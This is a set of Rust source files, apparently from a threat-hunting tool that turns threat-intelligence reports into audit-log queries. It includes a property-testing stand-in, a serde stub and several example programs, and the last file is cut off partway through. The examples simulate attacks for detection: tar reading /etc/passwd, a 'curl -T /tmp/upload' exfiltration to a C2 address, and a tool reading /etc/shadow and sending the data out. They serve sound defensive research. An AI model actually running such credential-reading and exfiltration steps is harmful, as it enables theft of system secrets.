    /// `proptest::option::of(strategy)`: `None` 50% of the time.
    pub fn of<S: Strategy>(inner: S) -> OptionStrategy<S> {
        OptionStrategy { inner }
    }

    impl<S: Strategy> Strategy for OptionStrategy<S> {
        type Value = Option<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Option<S::Value> {
            if rng.next_u64() & 1 == 0 {
                None
            } else {
                Some(self.inner.generate(rng))
            }
        }
    }
}

/// Builds each `#[test]` function: N deterministic generated cases, inputs
/// bound with `let <pat> = <strategy>.generate(..)`. An optional leading
/// `#![proptest_config(..)]` overrides the case count.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl! { ($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl! {
            ($crate::ProptestConfig { cases: $crate::NUM_CASES as u32 }) $($rest)*
        }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    (($cfg:expr) $($(#[$meta:meta])* fn $name:ident($($arg:pat_param in $strat:expr),+ $(,)?) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let __cfg: $crate::ProptestConfig = $cfg;
                let mut __rng =
                    $crate::test_runner::TestRng::from_name(stringify!($name));
                for __case in 0..(__cfg.cases as usize) {
                    $(let $arg =
                        $crate::strategy::Strategy::generate(&($strat), &mut __rng);)+
                    $body
                }
            }
        )*
    };
}

#[macro_export]
macro_rules! prop_assert {
    ($($t:tt)*) => { assert!($($t)*) };
}

#[macro_export]
macro_rules! prop_assert_eq {
    ($($t:tt)*) => { assert_eq!($($t)*) };
}

#[macro_export]
macro_rules! prop_assert_ne {
    ($($t:tt)*) => { assert_ne!($($t)*) };
}

/// Uniform choice between strategies that share a value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($arm:expr),+ $(,)?) => {
        $crate::strategy::Union::new(vec![
            $($crate::strategy::BoxedStrategy::new($arm)),+
        ])
    };
}
