//! The [`Strategy`] trait and the built-in strategies.

use std::ops::{Range, RangeFrom};
use std::rc::Rc;

use crate::test_runner::TestRng;

/// A generator of test-case values. Unlike the real crate there is no value
/// tree / shrinking — `generate` produces a value directly.
pub trait Strategy {
    type Value;

    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }

    fn prop_flat_map<S2, F>(self, f: F) -> FlatMap<Self, F>
    where
        Self: Sized,
        S2: Strategy,
        F: Fn(Self::Value) -> S2,
    {
        FlatMap { inner: self, f }
    }

    /// Recursive strategies: `self` is the leaf; `recurse` builds one level
    /// on top of a strategy for the level below. `depth` bounds nesting;
    /// the size/branch hints of the real API are accepted and ignored.
    fn prop_recursive<S2, F>(
        self,
        depth: u32,
        _desired_size: u32,
        _expected_branch_size: u32,
        recurse: F,
    ) -> Recursive<Self::Value>
    where
        Self: Sized + 'static,
        Self::Value: 'static,
        S2: Strategy<Value = Self::Value> + 'static,
        F: Fn(BoxedStrategy<Self::Value>) -> S2 + 'static,
    {
        let leaf = BoxedStrategy::new(self);
        let f: Rc<RecurseFn<Self::Value>> =
            Rc::new(move |inner| BoxedStrategy::new(recurse(inner)));
        Recursive { leaf, recurse: f, depth }
    }
}

pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Clone, F: Clone> Clone for Map<S, F> {
    fn clone(&self) -> Self {
        Map { inner: self.inner.clone(), f: self.f.clone() }
    }
}

impl<S, O, F> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> O,
{
    type Value = O;
    fn generate(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

pub struct FlatMap<S, F> {
    inner: S,
    f: F,
}

impl<S, S2, F> Strategy for FlatMap<S, F>
where
    S: Strategy,
    S2: Strategy,
    F: Fn(S::Value) -> S2,
{
    type Value = S2::Value;
    fn generate(&self, rng: &mut TestRng) -> S2::Value {
        (self.f)(self.inner.generate(rng)).generate(rng)
    }
}

/// Always yields a clone of the given value.
#[derive(Clone, Debug)]
pub struct Just<T>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// Object-safe strategy handle (cheaply cloneable), the currency of
/// [`crate::prop_oneof!`] and `prop_recursive`.
pub struct BoxedStrategy<V>(Rc<dyn DynStrategy<V>>);

impl<V> Clone for BoxedStrategy<V> {
    fn clone(&self) -> Self {
        BoxedStrategy(Rc::clone(&self.0))
    }
}

impl<V> BoxedStrategy<V> {
    pub fn new<S: Strategy<Value = V> + 'static>(s: S) -> Self {
        BoxedStrategy(Rc::new(s))
    }
}

trait DynStrategy<V> {
    fn generate_dyn(&self, rng: &mut TestRng) -> V;
}

impl<S: Strategy> DynStrategy<S::Value> for S {
    fn generate_dyn(&self, rng: &mut TestRng) -> S::Value {
        self.generate(rng)
    }
}

impl<V> Strategy for BoxedStrategy<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        self.0.generate_dyn(rng)
    }
}

/// Uniform choice among arms (built by [`crate::prop_oneof!`]).
pub struct Union<V> {
    arms: Vec<BoxedStrategy<V>>,
}

impl<V> Union<V> {
    pub fn new(arms: Vec<BoxedStrategy<V>>) -> Self {
        assert!(!arms.is_empty(), "prop_oneof! needs at least one arm");
        Union { arms }
    }
}

impl<V> Clone for Union<V> {
    fn clone(&self) -> Self {
        Union { arms: self.arms.clone() }
    }
}

impl<V> Strategy for Union<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        let i = rng.below(self.arms.len() as u64) as usize;
        self.arms[i].generate(rng)
    }
}

type RecurseFn<V> = dyn Fn(BoxedStrategy<V>) -> BoxedStrategy<V>;

/// Built by [`Strategy::prop_recursive`].
pub struct Recursive<V> {
    leaf: BoxedStrategy<V>,
    recurse: Rc<RecurseFn<V>>,
    depth: u32,
}

impl<V> Clone for Recursive<V> {
    fn clone(&self) -> Self {
        Recursive { leaf: self.leaf.clone(), recurse: Rc::clone(&self.recurse), depth: self.depth }
    }
}

/// Picks the leaf arm half the time so generated trees stay small; at depth
/// zero only the leaf remains.
struct LeafOrDeeper<V> {
    leaf: BoxedStrategy<V>,
    deeper: BoxedStrategy<V>,
}

impl<V> Strategy for LeafOrDeeper<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        if rng.next_u64() & 1 == 0 {
            self.leaf.generate(rng)
        } else {
            self.deeper.generate(rng)
        }
    }
}

impl<V: 'static> Recursive<V> {
    fn level(&self, depth: u32) -> BoxedStrategy<V> {
        if depth == 0 {
            return self.leaf.clone();
        }
        let deeper = (self.recurse)(self.level(depth - 1));
        BoxedStrategy::new(LeafOrDeeper { leaf: self.leaf.clone(), deeper })
    }
}

impl<V: 'static> Strategy for Recursive<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        self.level(self.depth).generate(rng)
    }
}

// --- numeric range strategies ---

macro_rules! impl_int_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty range strategy");
                let span = (self.end as i128 - self.start as i128) as u128;
                ((rng.next_u64() as u128 % span) as i128 + self.start as i128) as $t
            }
        }
        impl Strategy for RangeFrom<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                (self.start..<$t>::MAX).generate(rng)
            }
        }
    )*};
}

impl_int_strategy!(i8, i16, i32, i64, u8, u16, u32, u64, usize, isize);

impl Strategy for Range<f64> {
    type Value = f64;
    fn generate(&self, rng: &mut TestRng) -> f64 {
        self.start + rng.unit_f64() * (self.end - self.start)
    }
}

// --- string pattern strategy ---

/// `&str` strategies interpret the string as the regex subset the real
/// crate's tests here rely on: literal characters, `[...]` classes with
/// `a-z` ranges (a leading/trailing `-` is literal), and an optional
/// `{n}` / `{m,n}` repetition after each atom.
impl Strategy for &'static str {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        let atoms = parse_pattern(self);
        let mut out = String::new();
        for (choices, (lo, hi)) in &atoms {
            let n = *lo + (rng.below((*hi - *lo + 1) as u64) as u32);
            for _ in 0..n {
                let (a, b) = choices[rng.below(choices.len() as u64) as usize];
                let span = b as u32 - a as u32 + 1;
                let c = char::from_u32(a as u32 + rng.below(span as u64) as u32)
                    .expect("pattern char ranges avoid surrogates");
                out.push(c);
            }
        }
        out
    }
}

type Atom = (Vec<(char, char)>, (u32, u32));

fn parse_pattern(pat: &str) -> Vec<Atom> {
    let chars: Vec<char> = pat.chars().collect();
    let mut atoms: Vec<Atom> = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let choices: Vec<(char, char)> = if chars[i] == '[' {
            let close = chars[i..]
                .iter()
                .position(|&c| c == ']')
                .map(|p| i + p)
                .unwrap_or_else(|| panic!("unclosed [ in pattern {pat:?}"));
            let body = &chars[i + 1..close];
            i = close + 1;
            let mut set = Vec::new();
            let mut j = 0;
            while j < body.len() {
                if j + 2 < body.len() && body[j + 1] == '-' {
                    set.push((body[j], body[j + 2]));
                    j += 3;
                } else {
                    set.push((body[j], body[j]));
                    j += 1;
                }
            }
            assert!(!set.is_empty(), "empty class in pattern {pat:?}");
            set
        } else {
            let c = chars[i];
            i += 1;
            vec![(c, c)]
        };
        let reps = if i < chars.len() && chars[i] == '{' {
            let close = chars[i..]
                .iter()
                .position(|&c| c == '}')
                .map(|p| i + p)
                .unwrap_or_else(|| panic!("unclosed {{ in pattern {pat:?}"));
            let body: String = chars[i + 1..close].iter().collect();
            i = close + 1;
            match body.split_once(',') {
                Some((lo, hi)) => (
                    lo.trim().parse().expect("bad repetition"),
                    hi.trim().parse().expect("bad repetition"),
                ),
                None => {
                    let n: u32 = body.trim().parse().expect("bad repetition");
                    (n, n)
                }
            }
        } else {
            (1, 1)
        };
        atoms.push((choices, reps));
    }
    atoms
}

// --- tuple strategies ---

macro_rules! impl_tuple_strategy {
    ($($name:ident),+) => {
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            #[allow(non_snake_case)]
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                let ($($name,)+) = self;
                ($($name.generate(rng),)+)
            }
        }
    };
}

impl_tuple_strategy!(A);
impl_tuple_strategy!(A, B);
impl_tuple_strategy!(A, B, C);
impl_tuple_strategy!(A, B, C, D);
impl_tuple_strategy!(A, B, C, D, E);
impl_tuple_strategy!(A, B, C, D, E, F);
impl_tuple_strategy!(A, B, C, D, E, F, G);
impl_tuple_strategy!(A, B, C, D, E, F, G, H);

/// A `Vec` of strategies yields a `Vec` of one value from each.
impl<S: Strategy> Strategy for Vec<S> {
    type Value = Vec<S::Value>;
    fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
        self.iter().map(|s| s.generate(rng)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rng() -> TestRng {
        TestRng::from_name("strategy-tests")
    }

    #[test]
    fn string_pattern_shapes() {
        let mut r = rng();
        for _ in 0..200 {
            let s = "[a-z]{1,12}".generate(&mut r);
            assert!((1..=12).contains(&s.len()), "{s:?}");
            assert!(s.chars().all(|c| c.is_ascii_lowercase()));

            let t = "%[abc]{3,8}%".generate(&mut r);
            assert!(t.starts_with('%') && t.ends_with('%'), "{t:?}");
            assert!((5..=10).contains(&t.len()));

            let u = "[ -~]{0,24}".generate(&mut r);
            assert!(u.len() <= 24);
            assert!(u.chars().all(|c| (' '..='~').contains(&c)));

            let v = "[a-z0-9/%._-]{1,16}".generate(&mut r);
            assert!(!v.is_empty() && v.len() <= 16, "{v:?}");
        }
    }

    #[test]
    fn ranges_and_tuples() {
        let mut r = rng();
        for _ in 0..200 {
            let (a, b): (i64, usize) = (0i64..100, 3usize..7).generate(&mut r);
            assert!((0..100).contains(&a));
            assert!((3..7).contains(&b));
            let v = crate::collection::vec(0i32..5, 2..4).generate(&mut r);
            assert!((2..4).contains(&v.len()));
            assert!(v.iter().all(|x| (0..5).contains(x)));
        }
    }

    #[test]
    fn union_hits_every_arm() {
        let mut r = rng();
        let s = crate::prop_oneof![Just(1u8), Just(2u8), Just(3u8)];
        let mut seen = [false; 4];
        for _ in 0..100 {
            seen[s.generate(&mut r) as usize] = true;
        }
        assert_eq!(&seen[1..], &[true, true, true]);
    }

    #[test]
    fn recursive_bounded_and_mixed() {
        #[derive(Debug)]
        enum Tree {
            #[allow(dead_code)]
            Leaf(i64),
            Node(Box<Tree>, Box<Tree>),
        }
        fn depth(t: &Tree) -> u32 {
            match t {
                Tree::Leaf(_) => 0,
                Tree::Node(a, b) => 1 + depth(a).max(depth(b)),
            }
        }
        let leaf = (0i64..10).prop_map(Tree::Leaf);
        let strat = leaf.prop_recursive(3, 12, 2, |inner| {
            (inner.clone(), inner).prop_map(|(a, b)| Tree::Node(Box::new(a), Box::new(b)))
        });
        let mut r = rng();
        let mut max_seen = 0;
        for _ in 0..200 {
            let t = strat.generate(&mut r);
            max_seen = max_seen.max(depth(&t));
            assert!(depth(&t) <= 3);
        }
        assert!(max_seen >= 1, "recursion never taken");
    }
}
