//! Offline stand-in for `serde`.
//!
//! Exposes the `Serialize` / `Deserialize` names (trait + derive macro,
//! sharing a name like the real crate) so `use serde::{Deserialize,
//! Serialize}` plus `#[derive(...)]` compile. Nothing in this workspace
//! actually serializes through serde, so the traits are empty markers and
//! the derives expand to nothing.

pub use serde_derive::{Deserialize, Serialize};

pub trait Serialize {}

pub trait Deserialize<'de>: Sized {}
