//! Threat behavior extraction over the full benchmark corpus.
//!
//! Runs Algorithm 1 over every case report, printing the recognized IOCs,
//! the extracted relations, and the constructed threat behavior graph —
//! useful for inspecting the NLP pipeline without any audit data.
//!
//! ```text
//! cargo run --release -p threatraptor --example extract_report [case_id]
//! ```

use raptor_cases::all_cases;
use threatraptor::extract::extract;

fn main() {
    let filter = std::env::args().nth(1);
    for case in all_cases() {
        if let Some(f) = &filter {
            if case.id != f {
                continue;
            }
        }
        println!("==== {} — {} ====", case.id, case.name);
        let out = extract(case.report);
        println!("-- IOC entities --");
        for e in &out.entities {
            println!("  {:12} {}", e.ioc_type.name(), e.text);
        }
        println!("-- threat behavior graph ({} edges) --", out.graph.edges.len());
        print!("{}", out.graph.render());
        println!(
            "-- timing: text->E&R {:.4}s, E&R->graph {:.4}s --\n",
            out.timing.text_to_er, out.timing.er_to_graph
        );
    }
}
