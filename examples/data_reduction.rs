//! Data reduction in action (Section III-B).
//!
//! Generates a busy workload, parses it, and shows the event-merge pass at
//! several thresholds — the paper chose 1 s after the same experiment.
//!
//! ```text
//! cargo run --release -p threatraptor --example data_reduction
//! ```

use raptor_audit::reduce::merge_events;
use raptor_audit::sim::{generate_background, BackgroundProfile, Simulator};
use raptor_audit::LogParser;
use raptor_common::time::{Duration, Timestamp};

fn main() {
    let mut sim = Simulator::new(11, Timestamp::from_secs(0));
    generate_background(
        &mut sim,
        &BackgroundProfile { users: 15, sessions: 400, ..Default::default() },
    );
    let records = sim.finish();
    let baseline = LogParser::parse(&records);
    println!(
        "{} raw records -> {} entities, {} events before reduction",
        records.len(),
        baseline.entities.len(),
        baseline.events.len()
    );

    println!("\nthreshold | events after | reduction factor");
    println!("----------+--------------+-----------------");
    for ms in [0i64, 100, 500, 1_000, 5_000] {
        let mut log = LogParser::parse(&records);
        let stats = merge_events(&mut log.events, Duration::from_millis(ms));
        println!("{:>7}ms | {:>12} | {:>15.2}x", ms, stats.after, stats.factor());
    }
    println!("\n(the paper settled on 1 s: good merging with no false events)");
}
