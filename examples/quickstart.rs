//! Quickstart: the paper's Figure 2 demo, end to end.
//!
//! Simulates the data-leak attack inside benign background noise, feeds the
//! CTI report text to ThreatRaptor, and prints every intermediate artifact:
//! the threat behavior graph, the synthesized TBQL query, and the matched
//! system activities.
//!
//! ```text
//! cargo run --release -p threatraptor --example quickstart
//! ```

use raptor_audit::sim::{generate_background, BackgroundProfile, Simulator};
use raptor_common::time::Timestamp;
use threatraptor::ThreatRaptor;

const REPORT: &str = "\
After the lateral movement stage, the attacker attempts to steal valuable assets \
from the host. As a first step, the attacker used /bin/tar to read user credentials \
from /etc/passwd. It wrote the gathered information to a file /tmp/upload.tar. \
/bin/bzip2 read from /tmp/upload.tar and wrote to /tmp/upload.tar.bz2. \
This corresponds to the launched process /usr/bin/gpg reading from /tmp/upload.tar.bz2. \
/usr/bin/gpg then wrote the sensitive information to /tmp/upload. \
Finally, the attacker used /usr/bin/curl to read the data from /tmp/upload. \
He leaked the gathered sensitive information back to the attacker C2 host by \
using /usr/bin/curl to connect to 192.168.29.128.";

fn main() {
    // --- 1. collect audit records (simulated testbed) ---
    let mut sim = Simulator::new(7, Timestamp::from_secs(1_523_026_800));
    generate_background(
        &mut sim,
        &BackgroundProfile { users: 15, sessions: 150, ..Default::default() },
    );
    let shell = sim.boot_process("/bin/bash", "www-data");
    let tar = sim.spawn(shell, "/bin/tar", "tar cf /tmp/upload.tar /etc/passwd");
    sim.read_file(tar, "/etc/passwd", 65_536, 4);
    sim.write_file(tar, "/tmp/upload.tar", 65_536, 4);
    sim.exit(tar);
    let bzip = sim.spawn(shell, "/bin/bzip2", "bzip2 /tmp/upload.tar");
    sim.read_file(bzip, "/tmp/upload.tar", 65_536, 4);
    sim.write_file(bzip, "/tmp/upload.tar.bz2", 32_768, 4);
    sim.exit(bzip);
    let gpg = sim.spawn(shell, "/usr/bin/gpg", "gpg -c /tmp/upload.tar.bz2");
    sim.read_file(gpg, "/tmp/upload.tar.bz2", 32_768, 4);
    sim.write_file(gpg, "/tmp/upload", 32_768, 4);
    sim.exit(gpg);
    let curl = sim.spawn(shell, "/usr/bin/curl", "curl -T /tmp/upload");
    sim.read_file(curl, "/tmp/upload", 32_768, 4);
    let fd = sim.connect(curl, "192.168.29.128", 443);
    sim.send(curl, fd, 32_768, 8);
    sim.exit(curl);
    let records = sim.finish();
    println!("collected {} raw audit records", records.len());

    // --- 2. parse + reduce + load both storage backends ---
    let raptor = ThreatRaptor::from_records(&records).expect("load");

    // --- 3. hunt straight from the CTI report ---
    let outcome = raptor.hunt(REPORT).expect("hunt");

    println!("\n=== threat behavior graph ===");
    print!("{}", outcome.extraction.graph.render());

    println!("\n=== synthesized TBQL query ===");
    println!("{}", outcome.query_text);

    println!("\n=== matched system activities ===");
    println!("{}", outcome.results.columns.join("  |  "));
    for row in &outcome.results.rows {
        println!("{}", row.join("  |  "));
    }
    println!("\n({} data queries executed by the scheduler)", outcome.engine_stats.data_queries);
}
