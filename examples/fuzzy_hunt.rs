//! Fuzzy search: hunting with a drifted CTI report.
//!
//! The report names `/usr/bin/cur1` (a typo) and an outdated C2 address.
//! Exact search finds nothing; the fuzzy mode (Poirot-style inexact graph
//! pattern matching) still aligns the query graph with the provenance graph.
//!
//! ```text
//! cargo run --release -p threatraptor --example fuzzy_hunt
//! ```

use raptor_audit::sim::{generate_background, BackgroundProfile, Simulator};
use raptor_common::time::Timestamp;
use raptor_engine::fuzzy::FuzzyConfig;
use threatraptor::ThreatRaptor;

fn main() {
    let mut sim = Simulator::new(5, Timestamp::from_secs(1_523_000_000));
    generate_background(
        &mut sim,
        &BackgroundProfile { users: 8, sessions: 100, ..Default::default() },
    );
    let shell = sim.boot_process("/bin/bash", "www-data");
    let tar = sim.spawn(shell, "/bin/tar", "tar");
    sim.read_file(tar, "/etc/passwd", 4_096, 4);
    sim.write_file(tar, "/tmp/upload.tar", 4_096, 4);
    let curl = sim.spawn(shell, "/usr/bin/curl", "curl");
    sim.read_file(curl, "/tmp/upload.tar", 4_096, 2);
    let fd = sim.connect(curl, "192.168.29.128", 443);
    sim.send(curl, fd, 4_096, 4);
    let raptor = ThreatRaptor::from_records(&sim.finish()).expect("load");

    // The analyst's query, written from a drifted report ("cur1" typo).
    let q = r#"proc p1["%/bin/tar%"] read file f1["%/etc/passwd%"] as e1
              proc p2["%/usr/bin/cur1%"] read file f2["%/tmp/upload.tar%"] as e2
              proc p2 connect ip i1["192.168.29.128"] as e3
              return p1, f1, p2, f2, i1"#;

    println!("== exact search ==");
    let exact = raptor.query(q).expect("exact");
    println!("{} row(s)", exact.rows.len());

    println!("\n== fuzzy search (Levenshtein node alignment) ==");
    let (out, timings) = raptor.fuzzy_query(q, &FuzzyConfig::default()).expect("fuzzy");
    println!(
        "loading {:.3}s, preprocessing {:.3}s, searching {:.3}s",
        timings.loading, timings.preprocessing, out.searching
    );
    println!(
        "{} alignment(s), best score {:.2}",
        out.alignments.len(),
        out.alignments.first().map(|a| a.score).unwrap_or(0.0)
    );
    if let Some(best) = out.alignments.first() {
        println!("best alignment binds {} query nodes", best.node_map.len());
    }
}
