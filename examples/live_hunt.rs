//! Live hunting over a simulated audit-event stream.
//!
//! Replays the data_leak attack case as a watermarked epoch stream,
//! registers a TBQL standing query synthesized from the case's OSCTI
//! report, and prints — per epoch — what was ingested, which patterns
//! matched for the first time, and the result-row deltas as the hunt
//! converges on the attack. Along the way it reads the observability
//! plane: a per-epoch metrics line, the final metrics snapshot in
//! Prometheus text form, and the EXPLAIN ANALYZE tree of the standing
//! query against the fully grown store.
//!
//! ```text
//! cargo run --release -p threatraptor --example live_hunt
//! ```

use std::sync::Arc;

use threatraptor::common::io::{FailpointFs, MemFs};
use threatraptor::obs::{self, MetricValue};
use threatraptor::stream::{EpochPolicy, EpochStream};
use threatraptor::{DurablePolicy, DurableSession, Redact, SynthesisPlan, ThreatRaptor};

/// Reads a counter out of a metrics snapshot (0 when absent).
fn counter(snap: &obs::MetricsSnapshot, name: &str) -> u64 {
    match snap.get(name) {
        Some(MetricValue::Counter(n)) => *n,
        _ => 0,
    }
}

fn main() {
    // The data_leak scenario: tar→bzip2→gpg(-helper)→curl exfiltration
    // buried in benign background noise.
    let spec = raptor_cases::catalog::case_by_id("data_leak").expect("case");
    let built = raptor_cases::build_case(spec, 0.5, 2024);
    println!(
        "workload: {} entities, {} events (data_leak @ 0.5 noise)\n",
        built.log.entities.len(),
        built.log.events.len()
    );

    // Register two standing queries straight from the CTI report text: the
    // exact event-pattern synthesis, and the variable-length path variant
    // that can bridge helper processes the report never mentions.
    let mut hunt = ThreatRaptor::stream().expect("stream");
    let (exact, _, tbql) =
        hunt.register_report("exact", spec.report, &SynthesisPlan::default()).expect("synthesize");
    let (paths, _, _) = hunt
        .register_report(
            "paths",
            spec.report,
            &SynthesisPlan { use_path_patterns: true, ..Default::default() },
        )
        .expect("synthesize paths");
    println!("standing query synthesized from the report:\n{tbql}\n");

    for batch in EpochStream::new(&built.log, EpochPolicy::ByCount(16)) {
        let report = hunt.ingest_batch(&batch).expect("ingest");

        // Announce patterns of the exact query that lit up this epoch.
        for p in &hunt.session().query(exact).progress() {
            if p.first_match_epoch == Some(report.epoch) {
                println!(
                    "epoch {:>3}  pattern {:<7} first matched ({} match{})",
                    report.epoch,
                    p.id,
                    p.matches,
                    if p.matches == 1 { "" } else { "es" }
                );
            }
        }

        // And any result-row deltas (a full behavior chain joined up).
        for d in &report.deltas {
            for row in d.delta.rendered_rows() {
                println!(
                    "epoch {:>3}  ** {} CHAIN COMPLETE ** {}",
                    report.epoch,
                    d.name,
                    row.join(" | ")
                );
            }
        }

        // Per-epoch view of the metrics registry (cumulative counters the
        // stream session records on every ingest).
        let snap = obs::metrics().snapshot();
        println!(
            "epoch {:>3}  metrics: epochs={} events={} entities={} delta_rows={}",
            report.epoch,
            counter(&snap, "raptor_epochs_total"),
            counter(&snap, "raptor_events_ingested_total"),
            counter(&snap, "raptor_entities_ingested_total"),
            counter(&snap, "raptor_delta_rows_total"),
        );
    }

    let progress = hunt.session().query(exact).progress();
    let total = hunt.session().total_ingest_stats();
    println!(
        "\ningested {} records into both stores across {} epochs",
        total.items_inserted,
        hunt.session().epochs()
    );
    println!(
        "exact query: {}/{} patterns matched, {} result rows · path query: {} result rows",
        progress.iter().filter(|p| p.first_match_epoch.is_some()).count(),
        progress.len(),
        hunt.session().query(exact).cumulative_batch().n_rows(),
        hunt.session().query(paths).cumulative_batch().n_rows(),
    );
    for p in &progress {
        match p.first_match_epoch {
            Some(e) => println!("  {:<7} first matched at epoch {e} ({} matches)", p.id, p.matches),
            None => println!(
                "  {:<7} never matched (the report names /usr/bin/gpg; the I/O was done \
                 by its helper — the paper's recall gap the path variant bridges)",
                p.id
            ),
        }
    }

    // The observability plane, read out at the end of the hunt: the full
    // metrics snapshot in Prometheus exposition format…
    let m = obs::metrics();
    m.gauge_set("raptor_dict_symbols", hunt.session().engine().stores.dict.len() as i64);
    println!("\n--- metrics (Prometheus text) ---");
    print!("{}", m.snapshot().to_prometheus());

    // …and the plan of the standing query, annotated with actuals, against
    // the fully grown store (Redact::Full keeps wall times and scan
    // granularity visible — this output is for humans, not goldens).
    println!("--- EXPLAIN ANALYZE (standing query vs final store) ---");
    let (_, tree) =
        hunt.session().engine().explain_analyze_text(&tbql, Redact::Full).expect("analyze");
    print!("{tree}");

    // --- The durability plane: crash mid-stream, recover, re-deliver. ---
    //
    // Same hunt, but WAL-logged: every epoch commits to an (in-memory)
    // disk before it counts. A fault-injected crash tears the log mid
    // write; re-opening the surviving disk replays the checkpoint + WAL
    // tail and reports exactly what it rebuilt. The source then replays
    // its stream from the beginning — committed epochs dedupe, the torn
    // one lands exactly once.
    println!("\n--- durability: crash mid-stream, recover, re-deliver ---");
    let disk = Arc::new(MemFs::new());
    let fp = Arc::new(FailpointFs::new(disk.clone()));
    let mut durable =
        DurableSession::open(fp.clone(), DurablePolicy { checkpoint_every: 8 }).expect("open");
    durable.register("exact", &tbql).expect("register");
    let batches: Vec<_> = EpochStream::new(&built.log, EpochPolicy::ByCount(16)).collect();
    // Let most of the stream commit, then cut the byte budget: the next
    // WAL append tears partway through a record, as a real crash would.
    fp.crash_after_bytes(fp.bytes_written() + 100_000);
    let mut crashed_at = batches.len();
    for (i, b) in batches.iter().enumerate() {
        if durable.ingest_batch(b).is_err() {
            crashed_at = i;
            break;
        }
    }
    println!(
        "crashed while ingesting epoch {crashed_at}/{} (write budget exhausted mid-operation)",
        batches.len()
    );
    drop(durable);

    let mut recovered =
        DurableSession::open(disk, DurablePolicy { checkpoint_every: 8 }).expect("recover");
    println!("{}\n", recovered.recovery_report());
    let mut deduped = 0;
    for b in &batches {
        if recovered.ingest_batch(b).expect("redeliver").is_none() {
            deduped += 1;
        }
    }
    let standing = &recovered.session().queries()[0];
    assert_eq!(
        standing.cumulative_batch().n_rows(),
        hunt.session().query(exact).cumulative_batch().n_rows(),
        "recovered hunt must converge to the uncrashed result"
    );
    println!(
        "re-delivered {} epochs ({deduped} deduped, rest applied exactly once); \
         standing query converged to {} rows — identical to the uncrashed hunt",
        batches.len(),
        standing.cumulative_batch().n_rows()
    );
}
