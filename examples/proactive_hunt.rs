//! Proactive threat hunting with hand-written TBQL — no OSCTI report.
//!
//! The analyst queries the audit store directly, exercising windows,
//! operation expressions, variable-length paths and temporal chains.
//!
//! ```text
//! cargo run --release -p threatraptor --example proactive_hunt
//! ```

use raptor_audit::sim::{generate_background, BackgroundProfile, Simulator};
use raptor_common::time::Timestamp;
use threatraptor::ThreatRaptor;

fn main() {
    let mut sim = Simulator::new(99, Timestamp::from_secs(1_523_000_000));
    generate_background(
        &mut sim,
        &BackgroundProfile { users: 10, sessions: 120, ..Default::default() },
    );
    // A quiet credential-access chain the analyst suspects but has no
    // report for: a shell-spawned tool reads the shadow file and pushes
    // something out.
    let shell = sim.boot_process("/bin/bash", "intern");
    let tool = sim.spawn(shell, "/opt/helper/syncd", "syncd --once");
    sim.read_file(tool, "/etc/shadow", 16_384, 2);
    let fd = sim.connect(tool, "203.0.113.77", 8443);
    sim.send(tool, fd, 16_384, 4);
    sim.exit(tool);
    let raptor = ThreatRaptor::from_records(&sim.finish()).expect("load");

    // Hypothesis 1: anything reading /etc/shadow that is not a known tool.
    let q1 = r#"proc p[exename not in ("%/usr/bin/passwd%", "%/usr/sbin/sshd%")]
               read file f["%/etc/shadow%"] as e1
               return distinct p, p.user, f"#;
    let r1 = raptor.query(q1).expect("q1");
    println!("== readers of /etc/shadow ==");
    for row in &r1.rows {
        println!("{}", row.join("  |  "));
    }

    // Hypothesis 2: the same process also talked to the network afterwards.
    let q2 = r#"proc p read file f["%/etc/shadow%"] as e1
               proc p write ip i as e2
               with e1 before e2
               return distinct p, i, i.dstport"#;
    let r2 = raptor.query(q2).expect("q2");
    println!("\n== shadow readers that then exfiltrated ==");
    for row in &r2.rows {
        println!("{}", row.join("  |  "));
    }

    // Hypothesis 3: variable-length reachability — does any data path of at
    // most 3 events lead from the suspicious tool to a network connection?
    let q3 = r#"proc p["%/opt/helper/syncd%"] ~>(~3) ip i
               return distinct p, i"#;
    let r3 = raptor.query(q3).expect("q3");
    println!("\n== 3-hop reachability from the tool to the network ==");
    for row in &r3.rows {
        println!("{}", row.join("  |  "));
    }
}
