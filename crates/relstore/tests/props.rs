//! Property-based tests: LIKE semantics vs a reference matcher, index paths
//! vs full scans, and executor correctness against a naive evaluator.

use proptest::prelude::*;
use raptor_relstore::db::Ins;
use raptor_relstore::like::{containment_literal, like_match};
use raptor_relstore::{ColumnDef, ColumnType, Database, TableSchema};

/// Reference LIKE via dynamic programming (independent implementation).
fn like_reference(pattern: &str, text: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    let mut dp = vec![vec![false; t.len() + 1]; p.len() + 1];
    dp[0][0] = true;
    for i in 1..=p.len() {
        if p[i - 1] == '%' {
            dp[i][0] = dp[i - 1][0];
        }
        for j in 1..=t.len() {
